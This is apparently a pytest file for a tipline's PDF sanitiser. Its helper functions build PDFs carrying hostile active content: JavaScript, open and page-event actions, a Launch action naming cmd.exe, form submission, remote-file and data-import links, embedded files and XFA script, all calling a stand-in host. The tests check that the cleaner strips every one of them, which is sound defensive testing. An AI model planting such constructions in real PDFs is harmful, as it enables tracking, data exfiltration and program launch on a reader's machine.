"""No active content reaches the analyst: a PDF sent by a reporter is kept without
JavaScript, actions run on opening or on events, actions that reach out (web addresses,
other files, programs, form submission, data import), embedded files or XFA forms; a jump
within the document stays. Built here with pikepdf, sent through the reporter's form,
read back from the desk and checked with pikepdf and exiftool."""

import io
import json
import subprocess
from collections.abc import Callable
from pathlib import Path

import pikepdf
import pytest
from django.test import Client
from pikepdf import Array, Dictionary, Name, String

from tipline.reports import cleaners, cleaning, conversation
from tipline.reports.attachments import decrypt_details, read_attachment
from tipline.reports.models import Attachment, Report
from tipline.testing.fixtures import DeskWithRecipient

from .helpers import send_report

HOST = "tracker.example"


def _action(pdf: pikepdf.Pdf, kind: str, **entries: object) -> pikepdf.Object:
    return pdf.make_indirect(Dictionary(Type=Name.Action, S=Name("/" + kind), **entries))


def _link(pdf: pikepdf.Pdf, action: pikepdf.Object) -> pikepdf.Object:
    return pdf.make_indirect(
        Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 100, 100], A=action)
    )


def _add_annotation(pdf: pikepdf.Pdf, annotation: pikepdf.Object) -> None:
    page = pdf.pages[0].obj
    if "/Annots" not in page:
        page.Annots = Array()
    page.Annots.append(annotation)


def _javascript(pdf: pikepdf.Pdf) -> None:
    script = _action(pdf, "JavaScript", JS=String(f"app.launchURL('https://{HOST}/js');"))
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("x"), script])))


def _javascript_stream(pdf: pikepdf.Pdf) -> None:
    code = pdf.make_stream(f"this.submitForm('https://{HOST}/stream');".encode())
    _add_annotation(pdf, _link(pdf, _action(pdf, "JavaScript", JS=code)))


def _open_action(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = _action(pdf, "URI", URI=String(f"https://{HOST}/opened"))


def _page_events(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].obj.AA = Dictionary(O=_action(pdf, "URI", URI=String(f"https://{HOST}/page")))
    pdf.Root.AA = Dictionary(WC=_action(pdf, "JavaScript", JS=String("app.alert(1)")))


def _uri(pdf: pikepdf.Pdf) -> None:
    _add_annotation(pdf, _link(pdf, _action(pdf, "URI", URI=String(f"https://{HOST}/link"))))
    pdf.Root.URI = Dictionary(Base=String(f"https://{HOST}/"))


def _launch(pdf: pikepdf.Pdf) -> None:
    run = _action(pdf, "Launch", F=String("cmd.exe"), Win=Dictionary(F=String("cmd.exe")))
    _add_annotation(pdf, _link(pdf, run))


def _submit_form(pdf: pikepdf.Pdf) -> None:
    submit = _action(pdf, "SubmitForm", F=String(f"https://{HOST}/submit"))
    field = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot, Subtype=Name.Widget, FT=Name.Btn, T=String("send"),
            Rect=[0, 0, 50, 50], A=submit,
        )
    )  # fmt: skip
    _add_annotation(pdf, field)
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]))


def _go_to_remote(pdf: pikepdf.Pdf) -> None:
    remote = _action(pdf, "GoToR", F=String(f"\\\\{HOST}\\share\\x.pdf"), D=Array([0, Name.Fit]))
    _add_annotation(pdf, _link(pdf, remote))


def _import_data(pdf: pikepdf.Pdf) -> None:
    _add_annotation(pdf, _link(pdf, _action(pdf, "ImportData", F=String(f"//{HOST}/d.fdf"))))


def _chained(pdf: pikepdf.Pdf) -> None:
    first = pdf.pages[0].obj
    jump = _action(pdf, "GoTo", D=Array([first, Name.Fit]))
    jump.Next = _action(pdf, "URI", URI=String(f"https://{HOST}/next"))
    _add_annotation(pdf, _link(pdf, jump))


def _embedded_file(pdf: pikepdf.Pdf) -> None:
    content = pdf.make_stream(b"MZ not really a program")
    content.Type = Name.EmbeddedFile
    spec = pdf.make_indirect(
        Dictionary(Type=Name.Filespec, F=String("tool.exe"), EF=Dictionary(F=content))
    )
    pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([String("tool"), spec])))


def _attachment_annotation(pdf: pikepdf.Pdf) -> None:
    content = pdf.make_stream(b"a second file")
    content.Type = Name.EmbeddedFile
    spec = Dictionary(Type=Name.Filespec, F=String("notes.txt"), EF=Dictionary(F=content))
    _add_annotation(
        pdf,
        pdf.make_indirect(
            Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=[0, 0, 9, 9], FS=spec)
        ),
    )


def _xfa(pdf: pikepdf.Pdf) -> None:
    template = pdf.make_stream(f'<xdp:xdp><script>xfa.host.gotoURL("https://{HOST}")'.encode())
    if "/AcroForm" not in pdf.Root:
        pdf.Root.AcroForm = Dictionary(Fields=Array())
    pdf.Root.AcroForm.XFA = Array([String("template"), template])
    pdf.Root.NeedsRendering = True


HOSTILE: dict[str, Callable[[pikepdf.Pdf], None]] = {
    "JavaScript": _javascript,
    "JS": _javascript_stream,
    "OpenAction": _open_action,
    "AA": _page_events,
    "URI": _uri,
    "Launch": _launch,
    "SubmitForm": _submit_form,
    "GoToR": _go_to_remote,
    "ImportData": _import_data,
    "Next": _chained,
    "EmbeddedFiles": _embedded_file,
    "FileAttachment": _attachment_annotation,
    "XFA": _xfa,
}


def hostile_pdf(*kinds: str) -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.add_blank_page()
    # An inert jump to the second page: kept.
    second = pdf.pages[1].obj
    _add_annotation(pdf, _link(pdf, _action(pdf, "GoTo", D=Array([second, Name.Fit]))))
    for kind in kinds:
        HOSTILE[kind](pdf)
    output = io.BytesIO()
    pdf.save(output)
    return output.getvalue()


@pytest.mark.parametrize("kind", sorted(HOSTILE))
def test_each_kind_of_active_content_is_found_before_and_gone_after(kind: str) -> None:
    original = hostile_pdf(kind)
    with pikepdf.open(io.BytesIO(original)) as pdf:
        assert cleaning.active_content(pdf), kind  # the check sees what the test built
    cleaned, media_type = cleaning.clean(original, "application/pdf")
    assert media_type == "application/pdf"
    with pikepdf.open(io.BytesIO(cleaned)) as pdf:
        assert cleaning.active_content(pdf) == set()
        assert len(pdf.pages) == 2
        links = [a for a in pdf.pages[0].obj.get("/Annots", []) if "/A" in a]
        assert links and {str(link.A.S) for link in links} == {"/GoTo"}  # jumps inside stay
        assert not any("/Next" in link.A for link in links)
    uncompressed = _uncompressed(cleaned)
    assert HOST.encode() not in uncompressed and b"cmd.exe" not in uncompressed


def _uncompressed(data: bytes) -> bytes:
    """The file saved without stream compression, so a leftover string can be searched."""
    with pikepdf.open(io.BytesIO(data)) as pdf:
        output = io.BytesIO()
        pdf.save(
            output, compress_streams=False, object_stream_mode=pikepdf.ObjectStreamMode.disable
        )
        return output.getvalue()


def _exiftool(data: bytes, tmp_path: Path) -> dict[str, object]:
    path = tmp_path / "check.pdf"
    path.write_bytes(data)
    result = subprocess.run(
        ["exiftool", "-json", "-a", "-G1", str(path)],
        capture_output=True,
        check=True,
    )
    return dict(json.loads(result.stdout)[0])


@pytest.mark.django_db
def test_a_pdf_with_everything_active_reaches_the_desk_inert(
    client: Client, desk_with_recipient: DeskWithRecipient, files_dir: Path, tmp_path: Path
) -> None:
    original = hostile_pdf(*HOSTILE)
    category = desk_with_recipient.desk.categories.get(slug="drug-trafficking")
    response = send_report(client, category, files=[("statement.pdf", original)])
    assert response.status_code == 200, response.content.decode()[:2000]
    report = Report.objects.get()
    opened = conversation.open_as_staff(
        report, desk_with_recipient.analyst, desk_with_recipient.private_key
    )
    attachment = Attachment.objects.get(report=report)
    details = decrypt_details(
        opened.report_key, report.id, attachment.id, bytes(attachment.details)
    )
    assert details["metadata"] == "removed"
    kept = read_attachment(opened.report_key, report.id, attachment.id)
    with pikepdf.open(io.BytesIO(kept)) as pdf:
        assert cleaning.active_content(pdf) == set()
        assert "/AcroForm" not in pdf.Root or "/XFA" not in pdf.Root.AcroForm
    assert HOST.encode() not in _uncompressed(kept)
    read = json.dumps(_exiftool(kept, tmp_path))
    assert HOST not in read and "cmd.exe" not in read and "tool.exe" not in read


def test_a_pdf_that_cannot_be_made_inert_is_not_called_cleaned(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Should a kind of active content slip past the removal, the check after it refuses to
    call the file cleaned: it follows the desk's rule for uncleanable files."""
    monkeypatch.setattr(cleaners, "_make_inert", lambda pdf: None)
    with pytest.raises(cleaners.CannotClean, match="active content remains"):
        cleaners.clean_here(hostile_pdf("OpenAction"), "application/pdf", Path("/nonexistent"))
